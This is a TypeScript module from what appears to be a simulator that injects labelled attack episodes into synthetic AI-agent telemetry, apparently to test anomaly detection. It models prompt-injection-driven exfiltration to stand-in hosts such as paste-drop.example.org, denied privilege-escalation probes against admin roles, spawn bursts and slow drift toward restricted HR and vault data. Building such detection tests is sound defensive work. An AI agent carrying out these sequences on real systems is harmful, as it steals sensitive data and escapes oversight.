/**
 * Attack episodes injected into the normal stream of the agents they target. Each builder picks a
 * moment that makes sense for the scenario (often right next to the agent's own normal activity, so
 * only the attack itself is unusual) and returns the events plus their label.
 */
import { agentEventsBetween, actionsAt } from './activity.ts'
import { HOSTILE_NETWORKS, type BlueprintKind, type Sensitivity } from './catalog.ts'
import { IdSource, signin, toolCall, type CallTarget, type SimEvent } from './events.ts'
import { addAgent, DAY_MS, HOUR_MS, MINUTE_MS, type FleetPlan, type SimAction, type SimAgent } from './fleet.ts'
import type { AttackEpisode, Scenario } from './labels.ts'
import { hashSeed, Rng } from './random.ts'

export interface Episode {
  label: AttackEpisode
  events: SimEvent[]
}

/** Blueprint kinds each scenario targets. */
const TARGETS: Record<Scenario, BlueprintKind[]> = {
  offhours_hr_access: ['support'],
  unfamiliar_signin: ['support', 'batch', 'devops', 'monitor', 'hr'],
  bulk_exfil_read: ['support', 'batch', 'hr'],
  injection_exfil_sequence: ['support', 'worker'],
  privilege_probing: ['devops', 'batch', 'monitor'],
  spawn_burst: ['orchestrator'],
  unknown_obo_sensitive: ['support', 'hr'],
  slow_drift_restricted: ['batch', 'devops', 'support'],
  new_agent_malicious: ['support', 'devops', 'batch'],
}

/** Admin operations a hijacked agent tries in order to widen its access; all are denied. */
const PROBES: CallTarget[] = [
  { tool: 'iam.assign_role', resource: 'iam://roles/global-admin', operation: 'admin', sensitivity: 'restricted', typicalRecords: 0, bytesPerRecord: 0, durationMs: 150 },
  { tool: 'k8s.rbac.bind', resource: 'k8s://prod/clusterrole/cluster-admin', operation: 'admin', sensitivity: 'restricted', typicalRecords: 0, bytesPerRecord: 0, durationMs: 120 },
  { tool: 'vault.policy.write', resource: 'vault://sys/policies/root', operation: 'admin', sensitivity: 'restricted', typicalRecords: 0, bytesPerRecord: 0, durationMs: 90 },
  { tool: 'graph.app.grant', resource: 'entra://directory/app-role-assignments', operation: 'admin', sensitivity: 'restricted', typicalRecords: 0, bytesPerRecord: 0, durationMs: 200 },
  { tool: 'sql.grant', resource: 'sql://warehouse/admin', operation: 'admin', sensitivity: 'confidential', typicalRecords: 0, bytesPerRecord: 0, durationMs: 110 },
  { tool: 'storage.acl.set', resource: 'blob://reports/$acl', operation: 'admin', sensitivity: 'confidential', typicalRecords: 0, bytesPerRecord: 0, durationMs: 130 },
]

const HR_DB: CallTarget = { tool: 'sql.query', resource: 'sql://hr-db/employees', operation: 'read', sensitivity: 'restricted', typicalRecords: 900, bytesPerRecord: 900, durationMs: 1_800 }
const HR_WORKDAY: CallTarget = { tool: 'hr.lookup', resource: 'workday://employees', operation: 'read', sensitivity: 'restricted', typicalRecords: 300, bytesPerRecord: 2_500, durationMs: 900 }
const EXFIL_HOSTS = ['paste-drop.example.org', 'cdn-sync.example.net', 'telemetry-collect.example.com', 'share-files.example.io']
const EXFIL_MAILBOXES = ['archive-backup.example.com', 'gmail-relay.example.net', 'partner-reports.example.org']

/** Resources an agent drifts through, one step more sensitive every day or so. */
const DRIFT_STEPS: Partial<Record<BlueprintKind, CallTarget[]>> = {
  batch: [
    { tool: 'sql.query', resource: 'sql://warehouse/hr-summary', operation: 'read', typicalRecords: 200, bytesPerRecord: 200, durationMs: 2_000 },
    { tool: 'sql.query', resource: 'sql://hr-db/compensation-aggregates', operation: 'read', sensitivity: 'confidential', typicalRecords: 300, bytesPerRecord: 250, durationMs: 2_500 },
    { tool: 'sql.query', resource: 'sql://hr-db/payroll', operation: 'read', sensitivity: 'restricted', typicalRecords: 800, bytesPerRecord: 300, durationMs: 3_500 },
  ],
  devops: [
    { tool: 'secrets.read', resource: 'vault://kv/shared-config', operation: 'read', typicalRecords: 2, bytesPerRecord: 300, durationMs: 120 },
    { tool: 'secrets.read', resource: 'vault://kv/payments-prod', operation: 'read', sensitivity: 'confidential', typicalRecords: 3, bytesPerRecord: 300, durationMs: 120 },
    { tool: 'secrets.read', resource: 'vault://kv/root-ca', operation: 'read', sensitivity: 'restricted', typicalRecords: 4, bytesPerRecord: 2_000, durationMs: 140 },
  ],
  support: [
    { tool: 'doc.read', resource: 'sharepoint://hr/org-chart', operation: 'read', typicalRecords: 1, bytesPerRecord: 30_000, durationMs: 200 },
    { tool: 'hr.lookup', resource: 'workday://employees/contact-info', operation: 'read', sensitivity: 'confidential', typicalRecords: 5, bytesPerRecord: 1_000, durationMs: 400 },
    { tool: 'sql.query', resource: 'sql://hr-db/employees', operation: 'read', sensitivity: 'restricted', typicalRecords: 40, bytesPerRecord: 900, durationMs: 900 },
  ],
}

const SENSITIVE: Sensitivity[] = ['confidential', 'restricted']

interface Build {
  events: SimEvent[]
  agentIds: string[]
  description: string
}

interface BuildContext {
  plan: FleetPlan
  rng: Rng
  ids: IdSource
  traces: IdSource
  from: number
  to: number
}

function ipIn(prefix: readonly [number, number], rng: Rng): string {
  return `${prefix[0]}.${prefix[1]}.${rng.int(0, 255)}.${rng.int(1, 254)}`
}

function hhmm(ts: number, offsetHours: number): string {
  return new Date(ts + offsetHours * HOUR_MS).toISOString().slice(11, 16)
}

/** A normal event of the agent inside the window to hang the attack on, if it has any there. */
function anchorEvent(c: BuildContext, agent: SimAgent, keep: (e: SimEvent) => boolean = () => true): SimEvent | undefined {
  const candidates = agentEventsBetween(c.plan, agent.id, c.from, c.to).filter(keep)
  return candidates.length ? c.rng.pick(candidates) : undefined
}

function asCall(target: SimAction): CallTarget {
  return target
}

function mostUsed(agent: SimAgent, keep: (a: SimAction) => boolean): SimAction | undefined {
  // Actions are ordered by weight (Zipf over the agent's order), so the first match is the favourite.
  return agent.actions.find(keep)
}

function offhoursHrAccess(c: BuildContext, agent: SimAgent): Build | undefined {
  const { rng, plan } = c
  const firstDay = Math.floor((c.from - plan.start) / DAY_MS)
  const lastDay = Math.floor((c.to - plan.start) / DAY_MS)
  for (let attempt = 0; attempt < 30; attempt++) {
    const day = rng.int(firstDay, lastDay)
    // 03:00-03:40 in the agent's local time, on a working-day night.
    const t = plan.start + day * DAY_MS - agent.utcOffsetHours * HOUR_MS + 3 * HOUR_MS + rng.int(0, 40) * MINUTE_MS
    const weekday = new Date(t + agent.utcOffsetHours * HOUR_MS).getUTCDay()
    if (t < c.from || t >= c.to || weekday === 0 || weekday === 6) continue
    const traceId = c.traces.next()
    const events = [signin(plan, agent, t, c.ids, rng, { traceId, audience: { resource: 'https://database.windows.net', scopes: ['user_impersonation'] } })]
    let ts = t + rng.int(1_000, 5_000)
    const calls = rng.int(3, 7)
    for (let i = 0; i < calls; i++) {
      const target = i > 0 && rng.chance(0.3) ? HR_WORKDAY : HR_DB
      events.push(toolCall(plan, agent, ts, target, c.ids, rng, { traceId }))
      ts += rng.int(30_000, 150_000)
    }
    return { events, agentIds: [agent.id], description: `${agent.id} (support desk) queried the restricted HR database at ${hhmm(t, agent.utcOffsetHours)} local time, with no user attending` }
  }
  return undefined
}

function unfamiliarSignin(c: BuildContext, agent: SimAgent): Build | undefined {
  const { rng, plan } = c
  const t = Math.round(rng.between(c.from, c.to))
  const hostile = rng.pick(HOSTILE_NETWORKS)
  const credential = agent.blueprint.credential === 'secret' ? 'certificate' : 'secret'
  const network = { ip: ipIn(hostile.ipPrefix, rng), asn: hostile.asn, country: hostile.country }
  const traceId = c.traces.next()
  const events: SimEvent[] = []
  let ts = t
  const failures = rng.int(0, 2)
  for (let i = 0; i < failures; i++) {
    events.push(signin(plan, agent, ts, c.ids, rng, { traceId, credential, network, outcome: 'failure', failureReason: 'AADSTS7000215: invalid client secret provided' }))
    ts += rng.int(10_000, 60_000)
  }
  events.push(signin(plan, agent, ts, c.ids, rng, { traceId, credential, network }))
  const calls = rng.int(6, 14)
  const { actions, weights } = actionsAt(plan, agent, ts)
  for (let i = 0; i < calls; i++) {
    ts += rng.int(20_000, 200_000)
    events.push(toolCall(plan, agent, ts, actions[rng.weighted(weights)], c.ids, rng, { traceId }))
  }
  return { events, agentIds: [agent.id], description: `${agent.id} signed in with a ${credential} from AS${hostile.asn} (${hostile.country}), then made ${calls} calls` }
}

function bulkExfilRead(c: BuildContext, agent: SimAgent): Build | undefined {
  const { rng, plan } = c
  const anchor = anchorEvent(c, agent, (e) => e.event.kind === 'tool_call' && e.ts < c.to)
  const read = mostUsed(agent, (a) => a.operation === 'read' && SENSITIVE.includes(a.sensitivity ?? 'internal')) ?? mostUsed(agent, (a) => a.operation === 'read')
  if (!anchor || !read) return undefined
  const userId = anchor.event.onBehalfOf?.userId
  const traceId = c.traces.next()
  const events: SimEvent[] = []
  let ts = anchor.ts + rng.int(30_000, 300_000)
  const calls = rng.int(6, 14)
  let total = 0
  for (let i = 0; i < calls; i++) {
    // 60-200 times the agent's usual volume per call.
    const records = Math.round(read.typicalRecords * rng.between(60, 200))
    total += records
    events.push(toolCall(plan, agent, ts, read, c.ids, rng, { traceId, userId, records, bytes: records * read.bytesPerRecord, durationMs: Math.round(read.durationMs * rng.between(20, 60)) }))
    ts += rng.int(60_000, 240_000)
  }
  return { events, agentIds: [agent.id], description: `${agent.id} read ${total} records from ${read.resource} in ${calls} calls (usually about ${read.typicalRecords} per call)` }
}

function injectionExfil(c: BuildContext, agent: SimAgent): Build | undefined {
  const { rng, plan } = c
  const anchor = anchorEvent(c, agent, (e) => e.event.kind === 'tool_call' && e.event.traceId !== undefined && e.ts < c.to)
  if (!anchor) return undefined
  const userId = anchor.event.onBehalfOf?.userId
  const traceId = anchor.event.traceId
  const events: SimEvent[] = []
  let ts = anchor.ts + rng.int(5_000, 60_000)
  const lure: CallTarget =
    agent.blueprint.kind === 'worker'
      ? { tool: 'web.fetch', resource: `https://${rng.pick(['free-market-data', 'quarterly-insights', 'docs-helpcenter'])}.example.net/${rng.hex(8)}`, operation: 'read', sensitivity: 'public', typicalRecords: 1, bytesPerRecord: 70_000, durationMs: 1_200 }
      : { tool: 'doc.read', resource: `sharepoint://support/inbox-attachments/case-${rng.hex(6)}.docx`, operation: 'read', typicalRecords: 1, bytesPerRecord: 45_000, durationMs: 200 }
  events.push(toolCall(plan, agent, ts, lure, c.ids, rng, { traceId, userId }))
  const sensitive = agent.actions.filter((a) => a.operation === 'read' && SENSITIVE.includes(a.sensitivity ?? 'internal'))
  const reads = rng.int(1, 3)
  for (let i = 0; i < reads; i++) {
    ts += rng.int(5_000, 40_000)
    const target = sensitive.length ? rng.pick(sensitive) : (mostUsed(agent, (a) => a.operation === 'read') ?? agent.actions[0])
    const records = Math.round(target.typicalRecords * rng.between(5, 20))
    events.push(toolCall(plan, agent, ts, asCall(target), c.ids, rng, { traceId, userId, records }))
  }
  const sinks: string[] = []
  const viaHttp = rng.chance(0.6)
  const viaMail = !viaHttp || rng.chance(0.3)
  if (viaHttp) {
    ts += rng.int(5_000, 30_000)
    const host = rng.pick(EXFIL_HOSTS)
    sinks.push(host)
    events.push(toolCall(plan, agent, ts, { tool: 'http.post', resource: `https://${host}/upload`, operation: 'write', typicalRecords: 1, bytesPerRecord: 250_000, durationMs: 900 }, c.ids, rng, { traceId, userId }))
  }
  if (viaMail) {
    ts += rng.int(5_000, 30_000)
    const box = rng.pick(EXFIL_MAILBOXES)
    sinks.push(box)
    events.push(toolCall(plan, agent, ts, { tool: 'mail.send', resource: `mail://external/${box}`, operation: 'write', typicalRecords: 1, bytesPerRecord: 180_000, durationMs: 700 }, c.ids, rng, { traceId, userId }))
  }
  return { events, agentIds: [agent.id], description: `${agent.id} read ${lure.resource}, then sensitive data, then sent it to ${sinks.join(' and ')}` }
}

function privilegeProbing(c: BuildContext, agent: SimAgent): Build | undefined {
  const { rng, plan } = c
  const anchor = anchorEvent(c, agent, (e) => e.ts < c.to)
  const t = anchor ? anchor.ts + rng.int(60_000, 600_000) : Math.round(rng.between(c.from, c.to))
  const traceId = c.traces.next()
  const events = [signin(plan, agent, t, c.ids, rng, { traceId, audience: { resource: 'https://management.azure.com', scopes: ['user_impersonation', 'RoleManagement.ReadWrite.Directory'] } })]
  let ts = t + rng.int(2_000, 10_000)
  const tries = rng.int(5, 12)
  for (let i = 0; i < tries; i++) {
    events.push(toolCall(plan, agent, ts, rng.pick(PROBES), c.ids, rng, { traceId, outcome: 'denied' }))
    ts += rng.int(15_000, 90_000)
  }
  return { events, agentIds: [agent.id], description: `${agent.id} attempted ${tries} admin operations, all denied` }
}

function spawnBurst(c: BuildContext, orch: SimAgent): Build | undefined {
  const { rng, plan } = c
  const anchor = anchorEvent(c, orch, (e) => e.ts < c.to)
  if (!anchor) return undefined
  const userId = anchor.event.onBehalfOf?.userId
  const traceId = c.traces.next()
  const start = anchor.ts + rng.int(60_000, 300_000)
  const children = rng.int(15, 40)
  const spanMs = rng.int(4, 12) * MINUTE_MS
  const events: SimEvent[] = []
  const agentIds = [orch.id]
  for (let i = 0; i < children; i++) {
    const ts = start + Math.round((i * spanMs) / children) + rng.int(0, 5_000)
    const childId = `${orch.id}-sub-${rng.hex(6)}`
    events.push(toolCall(plan, orch, ts, { tool: 'agent.spawn', resource: `agent://${childId}`, operation: 'execute', typicalRecords: 1, bytesPerRecord: 1_500, durationMs: 400 }, c.ids, rng, { traceId, userId }))
    const child = addAgent(plan, { kind: 'worker', parentId: orch.id, id: childId, activeFrom: ts, drivesItself: false })
    agentIds.push(child.id)
    let cts = ts + rng.int(1_000, 3_000)
    events.push(signin(plan, child, cts, c.ids, rng, { traceId, userId }))
    const calls = rng.int(1, 3)
    for (let k = 0; k < calls; k++) {
      cts += rng.int(2_000, 15_000)
      const target = mostUsed(child, (a) => a.sensitivity === 'confidential') ?? rng.pick(child.actions)
      events.push(toolCall(plan, child, cts, rng.chance(0.5) ? target : rng.pick(child.actions), c.ids, rng, { traceId, userId }))
    }
  }
  return { events, agentIds, description: `${orch.id} spawned ${children} new sub-agents in ${spanMs / MINUTE_MS} minutes` }
}

function unknownOboSensitive(c: BuildContext, agent: SimAgent): Build | undefined {
  const { rng, plan } = c
  const anchor = anchorEvent(c, agent, (e) => e.event.kind === 'tool_call' && e.event.onBehalfOf !== undefined && e.ts < c.to)
  if (!anchor) return undefined
  const sensitive = agent.actions.filter((a) => SENSITIVE.includes(a.sensitivity ?? 'internal'))
  const targets: CallTarget[] = sensitive.length
    ? sensitive
    : [{ tool: 'crm.lookup', resource: 'dynamics://crm/contacts', operation: 'read', sensitivity: 'confidential', typicalRecords: 2, bytesPerRecord: 1_600, durationMs: 240 }]
  const userId = `u-ext-${rng.hex(6)}`
  const traceId = c.traces.next()
  let ts = anchor.ts + rng.int(2, 20) * MINUTE_MS
  const events = [signin(plan, agent, ts, c.ids, rng, { traceId, userId })]
  const calls = rng.int(3, 6)
  for (let i = 0; i < calls; i++) {
    ts += rng.int(10_000, 90_000)
    const target = rng.pick(targets)
    events.push(toolCall(plan, agent, ts, target, c.ids, rng, { traceId, userId, records: Math.round(Math.max(1, target.typicalRecords) * rng.between(2, 10)) }))
  }
  return { events, agentIds: [agent.id], description: `${agent.id} acted for unknown user ${userId} on ${[...new Set(targets.map((t) => t.resource))].join(', ')}` }
}

function slowDrift(c: BuildContext, agent: SimAgent): Build | undefined {
  const { rng, plan } = c
  const steps = DRIFT_STEPS[agent.blueprint.kind]
  if (!steps) return undefined
  const firstDay = Math.ceil((c.from - plan.start) / DAY_MS)
  const lastDay = Math.floor((c.to - plan.start) / DAY_MS) - 1
  const span = Math.min(4, lastDay - firstDay + 1)
  if (span < 2) return undefined
  const d0 = rng.int(firstDay, lastDay - span + 1)
  const events: SimEvent[] = []
  for (let i = 0; i < span; i++) {
    const dayStart = plan.start + (d0 + i) * DAY_MS
    const normal = agentEventsBetween(plan, agent.id, dayStart, dayStart + DAY_MS).filter((e) => e.event.kind === 'tool_call')
    if (!normal.length) continue
    // Step up one sensitivity level over the span; earlier steps keep being used now and then.
    const step = Math.min(steps.length - 1, Math.floor((i * steps.length) / span))
    const calls = 1 + i
    for (let k = 0; k < calls; k++) {
      const anchor = rng.pick(normal)
      const target = k === 0 || rng.chance(0.7) ? steps[step] : steps[rng.int(0, step)]
      events.push(toolCall(plan, agent, anchor.ts + rng.int(5_000, 90_000), target, c.ids, rng, { traceId: anchor.event.traceId, userId: anchor.event.onBehalfOf?.userId }))
    }
  }
  if (!events.some((e) => e.event.kind === 'tool_call' && e.event.sensitivity === 'restricted')) return undefined
  return { events, agentIds: [agent.id], description: `${agent.id} drifted over ${span} days from ${steps[0].resource} to restricted ${steps[steps.length - 1].resource}` }
}

function newAgentMalicious(c: BuildContext, kind: BlueprintKind): Build | undefined {
  const { rng, plan } = c
  const t = Math.round(rng.between(c.from, c.to))
  if (t < c.from) return undefined
  // Exists only for the episode, so nothing after it muddies the labels.
  const agent = addAgent(plan, { kind, activeFrom: t, drivesItself: false })
  const traceId = c.traces.next()
  const userId = agent.users.length ? rng.pick(agent.users) : undefined
  const events = [signin(plan, agent, t, c.ids, rng, { traceId, userId })]
  const bulk = mostUsed(agent, (a) => a.operation === 'read' && SENSITIVE.includes(a.sensitivity ?? 'internal')) ?? mostUsed(agent, (a) => a.operation === 'read')
  let ts = t + rng.int(2_000, 20_000)
  const end = t + rng.int(60, 150) * MINUTE_MS
  while (ts < end) {
    const x = rng.float()
    if (x < 0.4) {
      events.push(toolCall(plan, agent, ts, agent.actions[rng.weighted(agent.actionWeights)], c.ids, rng, { traceId, userId }))
    } else if (x < 0.6) {
      events.push(toolCall(plan, agent, ts, HR_DB, c.ids, rng, { traceId, userId, records: rng.int(500, 3_000) }))
    } else if (x < 0.75 && bulk) {
      const records = Math.round(bulk.typicalRecords * rng.between(50, 150))
      events.push(toolCall(plan, agent, ts, bulk, c.ids, rng, { traceId, userId, records, bytes: records * bulk.bytesPerRecord }))
    } else if (x < 0.88) {
      events.push(toolCall(plan, agent, ts, { tool: 'http.post', resource: `https://${rng.pick(EXFIL_HOSTS)}/upload`, operation: 'write', typicalRecords: 1, bytesPerRecord: 500_000, durationMs: 1_500 }, c.ids, rng, { traceId, userId }))
    } else {
      events.push(toolCall(plan, agent, ts, rng.pick(PROBES), c.ids, rng, { traceId, userId, outcome: 'denied' }))
    }
    ts += rng.int(1, 8) * MINUTE_MS
  }
  return { events, agentIds: [agent.id], description: `new ${agent.blueprint.id} agent ${agent.id} read restricted HR data, bulk data and posted to external hosts from its first hour` }
}

export class AttackPlanner {
  private readonly rng: Rng
  private readonly used = new Set<string>()
  private count = 0

  constructor(private readonly fleet: FleetPlan) {
    this.rng = new Rng(hashSeed(fleet.seed, 'attacks'))
    // Benign new agents stay clean so their window measures false alerts only.
    for (const id of fleet.newPeerAgentIds) this.used.add(id)
  }

  /**
   * One episode of `scenario` starting inside [from, to) (epoch ms), or undefined when no target fits.
   * An episode may run past `to` (a slow drift spans days) but never past the end of the plan.
   */
  plan(scenario: Scenario, from: number, to: number): Episode | undefined {
    const number = this.count + 1
    const c: BuildContext = {
      plan: this.fleet,
      rng: this.rng,
      ids: new IdSource(`s${this.fleet.seed}-ep${number}`),
      traces: new IdSource(`tr-s${this.fleet.seed}-ep${number}`),
      from,
      to: Math.min(to, this.fleet.end),
    }
    let built: Build | undefined
    if (scenario === 'new_agent_malicious') {
      built = newAgentMalicious(c, this.rng.pick(TARGETS.new_agent_malicious))
    } else {
      const kinds = TARGETS[scenario]
      const candidates = this.rng.shuffle(this.fleet.agents.filter((a) => kinds.includes(a.blueprint.kind) && a.activeFrom <= from && !this.used.has(a.id) && !a.id.includes('-sub-')))
      for (const agent of candidates.slice(0, 12)) {
        built = this.build(scenario, c, agent)
        if (built) break
      }
    }
    if (!built || !built.events.length) return undefined
    built.events.sort((a, b) => a.ts - b.ts)
    const first = built.events[0].ts
    const last = built.events[built.events.length - 1].ts
    if (first < from || last >= this.fleet.end) return undefined
    this.count = number
    for (const id of built.agentIds) this.used.add(id)
    return {
      events: built.events,
      label: {
        episodeId: `ep-s${this.fleet.seed}-${String(number).padStart(3, '0')}`,
        scenario,
        agentIds: built.agentIds,
        start: new Date(first).toISOString(),
        end: new Date(last).toISOString(),
        description: built.description,
        eventIds: built.events.map((e) => e.event.eventId),
      },
    }
  }

  private build(scenario: Scenario, c: BuildContext, agent: SimAgent): Build | undefined {
    switch (scenario) {
      case 'offhours_hr_access':
        return offhoursHrAccess(c, agent)
      case 'unfamiliar_signin':
        return unfamiliarSignin(c, agent)
      case 'bulk_exfil_read':
        return bulkExfilRead(c, agent)
      case 'injection_exfil_sequence':
        return injectionExfil(c, agent)
      case 'privilege_probing':
        return privilegeProbing(c, agent)
      case 'spawn_burst':
        return spawnBurst(c, agent)
      case 'unknown_obo_sensitive':
        return unknownOboSensitive(c, agent)
      case 'slow_drift_restricted':
        return slowDrift(c, agent)
      case 'new_agent_malicious':
        return undefined
    }
  }
}
